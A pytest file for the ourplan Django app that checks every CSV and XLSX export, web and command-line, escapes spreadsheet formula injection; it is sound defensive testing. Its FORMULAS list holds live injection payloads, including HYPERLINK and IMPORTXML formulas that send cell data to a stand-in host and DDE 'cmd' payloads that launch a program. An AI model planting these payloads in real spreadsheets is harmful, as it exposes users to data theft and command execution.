"""Formula injection (CSV injection) over every CSV and XLSX ourplan writes, the CLI's too.

Each writer gets text that a spreadsheet would run (cells starting = + - @, a tab or a
carriage return), read back as a spreadsheet would read it (``csv`` for CSV, openpyxl for
XLSX), and must hold 0 live formulas, with the text still there behind its apostrophe.
A structural test keeps every writer on the one rule (``core.spreadsheet_cells``).
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse

import ourplan
import ourplan.cli
from ourplan.people.models import Team
from tests.measures.conftest import all_items, respond  # noqa: F401 - a fixture used below

SRC = Path(ourplan.__file__).resolve().parent
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Open")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?",A2),"//a")',
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _is_live(value: Any) -> bool:
    """A text cell a spreadsheet would run: starts with a formula character, and is not a
    plain number (a negative statistic is data)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not NUMBER.fullmatch(value.strip())
    )


def csv_cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row
    ]


def xlsx_cells(content: bytes) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))  # formulas kept as formulas, not computed
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # A formula cell (data_type "f") is live whatever its text.
                cells.append(("=formula", cell.value) if cell.data_type == "f" else cell.value)
    return cells


def live_formulas(cells: Iterable[Any]) -> list[Any]:
    return [
        cell
        for cell in cells
        if (isinstance(cell, tuple) and cell[0] == "=formula") or _is_live(cell)
    ]


def escaped(cells: Iterable[Any], payloads: Iterable[str]) -> set[str]:
    """The payloads found in the cells behind the apostrophe that makes them text."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    return {payload for payload in payloads if any(f"'{payload.strip()}" in text for text in texts)}


def _assert_safe(cells: list[Any], payloads: list[str], writer: str, minimum: int = 1) -> None:
    assert live_formulas(cells) == [], f"{writer}: live formulas"
    shown = escaped(cells, payloads)
    assert len(shown) >= minimum, f"{writer}: only {sorted(shown)} of the payloads came through"


# Studies: responses, results and codebook CSV, and the workbook ------------------------------


@pytest.fixture
def dangerous_study(standing: Any) -> Any:
    from ourplan.studies import services

    study = services.study_create(
        actor=standing.researcher,
        organisation=standing.organisation,
        groups=["service users", "carers"],
        title=FORMULAS[1],
        purpose=FORMULAS[0],
        scale=5,
        planned_rounds=2,
        threshold=0.75,
    )
    for number, formula in enumerate(FORMULAS, start=1):
        services.statement_add(
            actor=standing.researcher,
            study=study,
            code=f"S{number:02d}",
            topic=formula,
            text=f"{formula}",
        )
        services.theme_add(
            actor=standing.researcher,
            study=study,
            code=f"T{number:02d}",
            name=formula,
            description=formula,
        )
    services.round_open(actor=standing.researcher, study=study, number=1)
    statements = list(study.statements.order_by("pk"))
    for group in ("service users", "carers"):
        for link in services.participants_invite_links(
            actor=standing.researcher, study=study, panel=study.panels.get(name=group), count=3
        ):
            services.participant_consent(participant=link.participant)
            services.response_save(
                participant=link.participant,
                round_number=1,
                ratings={statement.pk: 4 for statement in statements},
                comments={statement.pk: FORMULAS[-1 - i] for i, statement in enumerate(statements)},
                answers={},
                submit=True,
            )
    services.round_close(actor=standing.researcher, study=study, number=1)
    return study


@pytest.mark.django_db
@pytest.mark.parametrize(
    "export", ["studies:export_responses_csv", "studies:export_results_csv", "studies:codebook_csv"]
)
def test_study_csv_exports_hold_no_live_formula(
    export: str, dangerous_study: Any, standing: Any, client_for: Any
) -> None:
    response = client_for(standing.researcher).get(reverse(export, args=[dangerous_study.pk]))
    assert response.status_code == 200
    cells = csv_cells(response.content.decode("utf-8"))
    # The responses file has no free text of its own (ratings by pseudonym); the others carry it.
    minimum = 0 if export == "studies:export_responses_csv" else 5
    _assert_safe(cells, FORMULAS, export, minimum)


@pytest.mark.django_db
def test_the_study_workbook_holds_no_live_formula(
    dangerous_study: Any, standing: Any, client_for: Any
) -> None:
    response = client_for(standing.researcher).get(
        reverse("studies:export_xlsx", args=[dangerous_study.pk])
    )
    assert response.status_code == 200
    _assert_safe(xlsx_cells(response.content), FORMULAS, "studies:export_xlsx", len(FORMULAS) - 2)


# Questionnaires: the research export, CSV and XLSX ---------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_questionnaire_exports_hold_no_live_formula(
    file_format: str,
    standing: Any,
    respond: Any,  # noqa: F811 - the fixture imported above
    client_for: Any,
    settings: Any,
) -> None:
    # One respondent: the export names a team only at the small-cell limit or above, and
    # the team's name is where the payloads go.
    settings.OURPLAN_MEASURES_MIN_CELL = 1
    respond(
        actor=standing.person_user,
        instrument="star_p",
        answers=all_items("star_p", 2),
        person=standing.person,
    )
    tried = []
    for formula in FORMULAS:
        Team.objects.filter(pk=standing.team.pk).update(name=formula)
        response = client_for(standing.researcher).post(
            reverse("measures:export"), {"instrument": "star_p", "format": file_format}
        )
        assert response.status_code == 200, response.status_code
        cells = (
            csv_cells(response.content.decode("utf-8"))
            if file_format == "csv"
            else xlsx_cells(response.content)
        )
        assert live_formulas(cells) == [], formula
        tried += escaped(cells, [formula])
    assert len(tried) >= len(FORMULAS) - 2  # tab and CR may be trimmed from a name on the way


# Team dashboard: CSV and XLSX ------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_dashboard_exports_hold_no_live_formula(
    file_format: str, standing: Any, client_for: Any
) -> None:
    Team.objects.filter(pk=standing.team.pk).update(name=FORMULAS[1])
    tried = []
    for formula in FORMULAS:
        standing.coordinator.first_name = formula
        standing.coordinator.save(update_fields=["first_name"])
        response = client_for(standing.manager).get(
            reverse("coordination:dashboard_export", args=[file_format])
        )
        assert response.status_code == 200
        cells = (
            csv_cells(response.content.decode("utf-8"))
            if file_format == "csv"
            else xlsx_cells(response.content)
        )
        assert live_formulas(cells) == [], formula
        tried += escaped(cells, [formula])
    assert len(tried) >= len(FORMULAS) - 2


# The command line: ourplan analyse and ourplan measures score, --format csv --------------------


def _cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert ourplan.cli.main(list(argv)) == 0
    return capsys.readouterr().out


def test_analyse_csv_holds_no_live_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "groups.csv"
    with data.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["score", "group"])
        for index, label in enumerate(FORMULAS):
            for value in (1, 2, 3):
                writer.writerow([value + index, label])
    out = _cli(
        monkeypatch,
        capsys,
        *("analyse", "describe", str(data), "--value", "score", "--group", "group"),
        *("--format", "csv"),
    )
    # Reading a data file trims spaces, tabs and carriage returns around labels.
    _assert_safe(csv_cells(out), FORMULAS, "ourplan analyse", len(FORMULAS) - 2)


def test_measures_score_csv_holds_no_live_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from ourplan.measures.catalogue import DEFINITIONS_DIR

    answers = tmp_path / "answers.csv"
    with answers.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["respondent_id", *(f"STARP{i:02d}" for i in range(1, 13))])
        for number, formula in enumerate(FORMULAS):  # ids stay unique once trimmed
            writer.writerow([f"{formula} r{number}", *["2"] * 12])
    out = _cli(
        monkeypatch,
        capsys,
        *("measures", "score", "--instrument", str(DEFINITIONS_DIR / "star_p.yaml")),
        *("--format", "csv", str(answers)),
    )
    _assert_safe(csv_cells(out), FORMULAS, "ourplan measures score", len(FORMULAS) - 2)


# One rule, in one place ------------------------------------------------------------------------

# Writers of files made only from ourplan's own invented demo data, never from what anyone typed.
DEMO_WRITERS = {
    "reports/demo_data.py",
    "studies/demo.py",
    "analysis/delphi/demo.py",
}
WRITER_CALLS = ("csv.writer(", "csv.DictWriter(", "Workbook(", ".to_csv(", ".to_excel(")


# Care plan audits: the sample's CSV and XLSX, from the page and from ourplan audit export ------


@pytest.mark.django_db
def test_care_plan_audit_exports_hold_no_live_formula(
    standing: Any, client_for: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    from ourplan.quality import exports
    from tests.quality.quality_builders import draw, reviewed_plan

    reviewed_plan(standing.person, standing.coordinator)
    sample = draw(standing.manager, [standing.team], standing.clinician)
    manager = client_for(standing.manager)
    url = reverse("quality:export", args=[sample.pk])
    # The team's name is on every row of every export; an administrator names teams.
    for formula in FORMULAS:
        Team.objects.filter(pk=standing.team.pk).update(name=formula)
        # A leading tab or carriage return is kept behind the apostrophe, so only 0 live
        # formulas is asked of those; every other payload must come through as text.
        wanted = 0 if formula[0] in "\t\r" else 1
        assert ourplan.cli.main(["audit", "export", "--sample", str(sample.pk)]) == 0
        out = capsys.readouterr().out
        _assert_safe(csv_cells(out), [formula], "ourplan audit export", wanted)
        page = manager.get(url)
        assert page.status_code == 200
        _assert_safe(csv_cells(page.content.decode()), [formula], "the audit's CSV", wanted)
        book = manager.get(url, {"format": "xlsx"})
        assert book.status_code == 200
        _assert_safe(xlsx_cells(book.content), [formula], "the audit's XLSX", wanted)
        built = xlsx_cells(exports.to_xlsx(sample))
        _assert_safe(built, [formula], "quality.exports.to_xlsx", wanted)


def _modules() -> Iterable[tuple[str, str]]:
    for path in sorted(SRC.rglob("*.py")):
        if "migrations" in path.parts:
            continue
        yield path.relative_to(SRC).as_posix(), path.read_text(encoding="utf-8")


def test_every_spreadsheet_writer_uses_the_one_rule() -> None:
    writers = {name for name, text in _modules() if any(call in text for call in WRITER_CALLS)}
    assert writers - DEMO_WRITERS, "the search for writers found none: is src where it was?"
    unsafe = sorted(
        name for name in writers - DEMO_WRITERS if "spreadsheet_safe" not in text_of(name)
    )
    assert unsafe == [], f"CSV/XLSX writers that do not use core.spreadsheet_cells: {unsafe}"
    # The tests above cover each of these writers; a new one needs its own test here.
    assert writers - DEMO_WRITERS == {
        "cli/analyse.py",
        "cli/audit.py",
        "cli/measures.py",
        "coordination/exports.py",
        "measures/exports.py",
        "quality/exports.py",
        "quality/views/audits.py",
        "studies/exports.py",
    }


def text_of(name: str) -> str:
    return (SRC / name).read_text(encoding="utf-8")


def test_the_rule_has_no_second_copy() -> None:
    """No module but core.spreadsheet_cells tests for the formula characters itself."""
    copies = []
    for name, text in _modules():
        if name == "core/spreadsheet_cells.py":
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Tuple | ast.List | ast.Set) and {
                element.value
                for element in node.elts
                if isinstance(element, ast.Constant) and isinstance(element.value, str)
            } >= {"=", "+", "@"}:
                copies.append(f"{name}:{node.lineno}")
    assert copies == [], f"a second copy of the spreadsheet formula rule: {copies}"
